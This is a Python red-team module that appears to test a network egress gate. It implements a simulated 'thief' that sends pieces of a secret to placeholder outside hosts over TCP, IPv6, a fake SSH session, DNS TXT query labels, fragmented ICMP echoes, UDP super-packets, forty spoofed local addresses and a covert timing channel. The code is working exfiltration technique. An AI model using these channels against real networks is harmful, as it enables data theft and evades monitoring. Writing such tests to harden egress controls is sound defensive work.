"""The thief with the kernel's own sockets: what any program inside could do."""

from __future__ import annotations

import socket
import struct
import time
from contextlib import suppress
from itertools import count, cycle

from tidegate.gate.worlds import OUTSIDE_V4, OUTSIDE_V6
from tidegate.redteam import thief_frames as frames
from tidegate.redteam.thief_kit import API, DNS, SSH, Kit, add_addresses

_BLOCK, _STREAM = 1 << 15, 1 << 20
_SMALLEST_MSS = 88
_CLIENTS = 40
_PATIENCE_S = 0.4
_UDP_SEGMENT = 103

TICK_S, STEP_S, STEPS = 0.002, 0.001, 8
"""Covert timing: a datagram's delay after its predecessor is a tick and so many steps."""


def bulk(kit: Kit) -> None:
    """One TCP connection to the API's port, as fast as it goes; a new one where it stalls."""
    _connections(kit, OUTSIDE_V4, API)


def small_mss(kit: Kit) -> None:
    """TCP in segments so small that headers are most of what crosses."""
    _connections(kit, OUTSIDE_V4, API, mss=_SMALLEST_MSS)


def over_ipv6(kit: Kit) -> None:
    """TCP over IPv6."""
    _connections(kit, OUTSIDE_V6, API)


def ssh(kit: Kit) -> None:
    """A session on port 22 that begins as ssh does and goes on in binary packets."""
    _connections(kit, OUTSIDE_V4, SSH, greeting=b"SSH-2.0-OpenSSH_9.6\r\n")


def drip(kit: Kit) -> None:
    """A few bytes every few milliseconds, in segments and datagrams of their own."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        for piece in kit.pieces(8):
            kit.say(sender, piece, (OUTSIDE_V4, DNS))
            kit.pause(0.002)


def dns(kit: Kit) -> None:
    """Queries for names of the longest labels, type TXT, each from another port."""
    for number in count():
        if not kit.running():
            return
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
            for _ in range(16):
                kit.say(sender, query(kit, number), (OUTSIDE_V4, DNS))


def query(kit: Kit, number: int) -> bytes:
    """A DNS question whose labels are pieces of the secret."""
    labels = b"".join(bytes((length,)) + kit.piece(length) for length in (63, 63, 63, 59))
    head = struct.pack("!HHHHHH", number & 0xFFFF, 0x0100, 1, 0, 0, 0)
    return head + labels + b"\0" + struct.pack("!HH", 16, 1)


def icmp(kit: Kit) -> None:
    """Echo requests full of data, also longer than the MTU, so that they go out in fragments."""
    with (
        socket.socket(socket.AF_INET, socket.SOCK_RAW, frames.ICMP) as four,
        socket.socket(socket.AF_INET6, socket.SOCK_RAW, frames.ICMPV6) as six,
    ):
        for number, length in enumerate(cycle((56, 1400, 8000))):
            if not kit.running():
                return
            for sender, to in ((four, OUTSIDE_V4), (six, OUTSIDE_V6)):
                body = kit.piece(length)
                source = "::" if sender is six else ""
                kit.say(sender, frames.echo(source, to, body, sequence=number), (to, 0))
            kit.pause(0.0005)


def many_clients(kit: Kit) -> None:
    """Forty addresses, each with connections and datagrams to every port there is a class for."""
    addresses = [f"10.81.1.{number}" for number in range(10, 10 + _CLIENTS)]
    add_addresses(addresses)
    while kit.running():
        with _Crowd(kit) as crowd:
            for number, address in enumerate(addresses):
                crowd.connect(address, (API, SSH)[number % 2])
                crowd.datagrams(address)
            crowd.send()


def udp_segments(kit: Kit) -> None:
    """Datagrams by the dozen in one super-packet of UDP, in as small parts as the kernel cuts."""
    for size in cycle((24, 200, 1200)):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
            with suppress(OSError):
                sender.setsockopt(socket.SOL_UDP, _UDP_SEGMENT, size)
            for _ in range(32):
                if not kit.running():
                    return
                parts = min(60, 60_000 // size)
                body = b"".join(kit.piece(size) for _ in range(parts))
                kit.say(sender, body, (OUTSIDE_V4, DNS))


def timing(kit: Kit) -> None:
    """Nothing in the datagrams but their number: what they say is when they come."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        moment = time.monotonic() + TICK_S
        for number in count():
            if not kit.running():
                return
            kit.wait_until(moment)
            kit.say(sender, ticking(number), (OUTSIDE_V4, DNS))
            moment = max(moment, time.monotonic()) + TICK_S + STEP_S * symbol(number + 1)


def ticking(number: int) -> bytes:
    """A datagram of `timing`."""
    return b"tick" + struct.pack("!I", number)


def symbol(number: int) -> int:
    """What a datagram's delay says: drawn, and known to the receiver so that he can count."""
    return (number * 2_654_435_761 >> 16) % STEPS


def _connections(
    kit: Kit, to: str, port: int, *, mss: int | None = None, greeting: bytes = b""
) -> None:
    family = socket.AF_INET6 if ":" in to else socket.AF_INET
    while kit.running():
        with socket.socket(family, socket.SOCK_STREAM) as sender, suppress(OSError):
            if mss is not None:
                sender.setsockopt(socket.IPPROTO_TCP, socket.TCP_MAXSEG, mss)
                sender.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
            sender.settimeout(_PATIENCE_S)
            sender.connect((to, port))
            offset, data = kit.run(_STREAM)
            sender.sendall(greeting + offset.to_bytes(4, "big"))
            for start in range(0, _STREAM, _BLOCK):
                if not kit.running():
                    return
                kit.count(_BLOCK)
                sender.sendall(data[start : start + _BLOCK])
        kit.pause(0.01)


class _Crowd:
    """Many sockets at once, none of them waited for."""

    def __init__(self, kit: Kit) -> None:
        self._kit = kit
        self._streams: list[socket.socket] = []
        self._datagrams: list[socket.socket] = []

    def __enter__(self) -> _Crowd:
        return self

    def __exit__(self, *_: object) -> None:
        for one in (*self._streams, *self._datagrams):
            one.close()

    def connect(self, source: str, port: int) -> None:
        with suppress(OSError):
            made = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            self._streams.append(made)
            made.setblocking(False)
            made.bind((source, 0))
            made.connect_ex((OUTSIDE_V4, port))

    def datagrams(self, source: str) -> None:
        with suppress(OSError):
            made = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            self._datagrams.append(made)
            made.setblocking(False)
            made.bind((source, 0))

    def send(self) -> None:
        self._kit.pause(0.1)
        for stream in self._streams:
            offset, data = self._kit.run(4 * _BLOCK)
            self._kit.say(stream, offset.to_bytes(4, "big") + data)
        for _ in range(20):
            for one in self._datagrams:
                self._kit.say(one, self._kit.piece(1400), (OUTSIDE_V4, DNS))
        self._kit.pause(0.2)
